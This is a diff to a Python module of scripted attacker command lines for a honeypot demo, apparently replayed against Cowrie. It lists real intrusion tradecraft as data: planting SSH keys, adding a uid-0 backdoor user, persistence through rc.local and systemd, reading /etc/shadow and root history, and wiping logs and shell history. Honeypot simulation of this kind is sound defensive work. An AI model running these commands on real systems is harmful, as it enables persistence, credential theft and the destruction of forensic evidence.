@@ -1,9 +1,9 @@
 """Command lines of the demo's attackers. Every address and name in them is reserved for documentation.
 
-What they fetch is harmless text (``bait_server``); nothing in here works outside a honeypot that only pretends.
+What they fetch is harmless text (``bait_server``); nothing in here works outside a honeypot that only
+pretends. Nobody searches from the root of the file system: Cowrie 3.1.4 then answers nobody else, for many
+minutes.
 """
-
-# ruff: noqa: E501 - a command is one line
 
 from __future__ import annotations
 
@@ -40,7 +40,9 @@ PERSISTENCE: tuple[Line, ...] = (
     "cd ~; chattr -ia .ssh; lockr -ia .ssh",
     'rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQdemo{n} key@demo">>.ssh/authorized_keys && '
     "chmod -R go= ~/.ssh && cd ~",
-    "useradd -m -s /bin/bash -G sudo svc{n}",
+    "useradd -m svc{n}",
+    CTRL_C,
+    "echo 'svc{n}:x:0:0::/root:/bin/bash' >> /etc/passwd; usermod -aG sudo svc{n}",
     "echo '/usr/local/sbin/.netd &' >> /etc/rc.local; chmod +x /etc/rc.local",
     Paste(
         "printf '[Unit]\\nDescription=Network\\n[Service]\\nExecStart=/usr/local/sbin/.netd\\n' > /etc/systemd/system/netd.service"
@@ -76,7 +78,7 @@ EXPLORER: tuple[tuple[Line, ...], ...] = (
     (
         "ps aux",
         "cat /etc/shadwo" + B * 2 + "ow",
-        "find / -name '*.conf'" + CTRL_C,
+        "tail -f /var/log/syslog" + CTRL_C,
         "find /etc -name '*.conf'",
         "hsitory",
         "history",
@@ -146,7 +148,7 @@ WIPER: tuple[Line, ...] = (
     "rm -rf /var/log/wtmp /var/log/btmp /var/log/lastlog; rm -rf /var/log/secure /var/log/messages",
     "echo > /var/log/auth.log; cat /dev/null > /var/log/syslog",
     "sed -i '/203.0.113.{n}/d' /var/log/auth.log",
-    "find / -name '*.bash_history' -exec rm -f {} \\;",
+    "find /home /root -name '*.bash_history' -exec rm -f {} \\;",
     "shred -u ~/.bash_history; history -c; unset HISTFILE",
     "exit",
 )
@@ -171,7 +173,7 @@ OPERATOR_A: tuple[tuple[str, ...], ...] = (
     ("w", "last -10", "cat /etc/passwd", "ls -la /home", "ls -la /var/www"),
     ("hostname -f", "cat /etc/hosts", "netstat -tlnp", "ps -ef", "cat /etc/crontab"),
     ("cd /var/www", "ls -la", "find . -name 'config*.php'", "cat config.php", "cd /srv", "ls -la"),
-    ("find / -name '*.sql'", "ls -la /var/backups", "tar czf /tmp/b.tgz /var/backups", "ls -la /tmp"),
+    ("find /srv -name '*.sql'", "ls -la /var/backups", "tar czf /tmp/b.tgz /var/backups", "ls -la /tmp"),
     ("cat /root/.bash_history", "cat /root/.ssh/known_hosts", "grep -r password /etc", "df -h"),
 )
 OPERATOR_B: tuple[str, ...] = (
